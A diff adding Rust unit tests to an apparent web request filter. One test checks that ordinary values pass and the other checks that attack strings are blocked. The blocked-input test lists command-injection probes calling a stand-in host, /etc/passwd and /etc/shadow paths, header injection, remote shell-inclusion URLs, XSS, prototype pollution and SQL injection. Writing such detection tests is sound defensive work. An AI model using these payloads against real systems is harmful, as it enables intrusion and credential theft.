@@ -1155,3 +1155,79 @@ fn cookie_named_like_a_command_passes() {
     let headers = with_header("cookie", "id=5; pwd=x");
     assert!(!blocked(&headers, ""));
 }
+
+#[test]
+fn prose_and_everyday_values_pass() {
+    assert_all_pass(
+        "prose",
+        &[
+            "Shoes, bags & more",
+            "Books, music & more > see all",
+            "Host; writer; late night legend.",
+            "3 or 4 person tent",
+            "4 and 5 year olds",
+            "ctl00$MainContent$txtName",
+            "https://cdn.example.com/images/main.jpg?w=800&h=600",
+            "https://example.com/~jane/index.php?page=about",
+            "<p style=\"text-align: center;\">Centered</p>",
+            "<p><img src=\"https://cdn.example.com/u/1/photo.jpg\" alt=\"photo\"></p>",
+        ],
+    );
+    // Multi-line text with "Label:" lines, in a form and in JSON.
+    let form = "comment=Name%3A+Jane+Doe%0APhone%3A+555-0100";
+    assert!(
+        !blocked(
+            &with_body("POST", "application/x-www-form-urlencoded", form),
+            form
+        ),
+        "{form}"
+    );
+    let json = r#"{"body":"Hello,\nOrder number: 88812\nReason: wrong size"}"#;
+    assert!(
+        !blocked(&with_body("POST", "application/json", json), json),
+        "{json}"
+    );
+    let headers = [
+        ("x-requested-with", "XMLHttpRequest"),
+        (
+            "authorization",
+            "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
+        ),
+    ];
+    for (name, value) in headers {
+        let mut request = request("/api/items");
+        request.push((name.to_string(), value.as_bytes().to_vec()));
+        let assessment = assess(&filter(), &request, "");
+        assert_eq!(assessment.detections, vec![], "{name}: {value}");
+    }
+}
+
+#[test]
+fn blind_probes_and_spellings_are_blocked() {
+    assert_all_blocked(
+        "probes",
+        &[
+            "; sleep 10",
+            "|sleep 5",
+            "; nslookup evil.example",
+            ";dig evil.example",
+            "; host evil.example",
+            "x;who",
+            "/etc//passwd",
+            "/etc/./shadow",
+            "\r\nSet-Cookie: session=attacker",
+            "http://evil.example/shell.php?",
+            "http://evil.example/shell.txt?cmd=id",
+            "<p style=\"x:expression(alert(1))\">",
+            "new XMLHttpRequest()",
+        ],
+    );
+    assert!(blocked(&request("/login;jsessionid=ATTACKER123"), ""));
+    let json = r#"{"a":[{"constructor":{"prototype":{"isAdmin":true}}}]}"#;
+    assert!(blocked(&with_body("POST", "application/json", json), json));
+    let multipart = "--XX\r\nContent-Disposition: form-data; name=\"q\"; filename=\"\"\r\n\r\n1' UNION SELECT password FROM users--\r\n--XX--\r\n";
+    assert!(blocked(
+        &with_body("POST", "multipart/form-data; boundary=XX", multipart),
+        multipart
+    ));
+}
